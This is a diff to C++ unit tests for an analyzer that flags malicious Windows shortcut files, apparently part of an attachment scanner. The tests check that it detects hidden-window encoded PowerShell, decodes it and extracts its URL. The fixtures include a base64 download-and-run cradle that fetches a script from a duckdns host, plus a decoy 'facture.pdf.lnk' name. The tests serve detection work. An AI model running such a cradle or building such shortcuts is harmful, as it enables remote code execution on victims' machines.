@@ -29,14 +29,32 @@ TEST(LnkAnalyzerTest, PowerShellWithAnEncodedCommandInAHiddenWindow) {
   const Finding* f = AnalyzerHarness::find(run.findings, "LNK_COMMAND_EXECUTION");
   ASSERT_NE(f, nullptr);
   EXPECT_EQ(f->confidence, 1.0);
-  ASSERT_EQ(f->evidence.size(), 3u);
+  ASSERT_EQ(f->evidence.size(), 4u);
   EXPECT_EQ(run.objects.at(f->evidence[0].object).filename, "facture.pdf.lnk");
   EXPECT_EQ(f->evidence[0].value, "PowerShell (T1059.001)");
   EXPECT_EQ(f->evidence[1].field, "command");
   EXPECT_EQ(f->evidence[1].value, kPowerShell + " -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA");
-  EXPECT_EQ(f->evidence[2].field, "suspicious");
-  EXPECT_EQ(f->evidence[2].value, "an encoded PowerShell command; a hidden window");
-  EXPECT_EQ(f->evidence[2].value_fr, "une commande PowerShell encodée ; une fenêtre cachée");
+  EXPECT_EQ(f->evidence[2].field, "decoded_command");
+  EXPECT_EQ(f->evidence[2].value, "IEX (New-Object");
+  EXPECT_EQ(f->evidence[3].field, "suspicious");
+  EXPECT_EQ(f->evidence[3].value, "a hidden window; an encoded PowerShell command; code run from a string (iex)");
+  EXPECT_EQ(f->evidence[3].value_fr,
+            "une fenêtre cachée ; une commande PowerShell encodée ; du code exécuté depuis une chaîne (iex)");
+}
+
+TEST(LnkAnalyzerTest, TheEncodedCommandIsDecodedAndItsAddressesJoinTheLinks) {
+  // "iex (iwr https://cabinet.duckdns.org/a.ps1)" in UTF-16LE, base64.
+  ShortcutSpec spec;
+  spec.local_base_path = kPowerShell;
+  spec.arguments =
+      "-EncodedCommand aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAGMAYQBiAGkAbgBlAHQALgBkAHUAYwBrAGQAbgBzAC4AbwByAGcA"
+      "LwBhAC4AcABzADEAKQA=";
+  const auto run = harness().run(with_attachment("a.lnk", write_shortcut(spec)));
+  const Finding* f = AnalyzerHarness::find(run.findings, "LNK_COMMAND_EXECUTION");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->evidence.at(2).value, "iex (iwr https://cabinet.duckdns.org/a.ps1)");
+  ASSERT_EQ(run.objects.urls().size(), 1u);
+  EXPECT_EQ(run.objects.urls()[0].normalized(), "https://cabinet.duckdns.org/a.ps1");
 }
 
 TEST(LnkAnalyzerTest, DownloadCradlesAndTheirAddressesJoinTheLinks) {
@@ -62,8 +80,9 @@ TEST(LnkAnalyzerTest, CaretsDoNotHideTheToolsFromUs) {
   const auto findings = harness().analyze(with_attachment("a.lnk", write_shortcut(spec)));
   const Finding* f = AnalyzerHarness::find(findings, "LNK_COMMAND_EXECUTION");
   ASSERT_NE(f, nullptr);
-  EXPECT_EQ(f->evidence.at(2).value,
-            "words broken up with cmd escapes (^); an encoded PowerShell command; starts PowerShell");
+  EXPECT_EQ(f->evidence.at(3).value,
+            "words broken up with cmd escapes (^); an encoded PowerShell command; code run from a string (iex); "
+            "starts PowerShell");
 }
 
 TEST(LnkAnalyzerTest, AScriptHostWithoutSuspiciousArgumentsIsLessSure) {
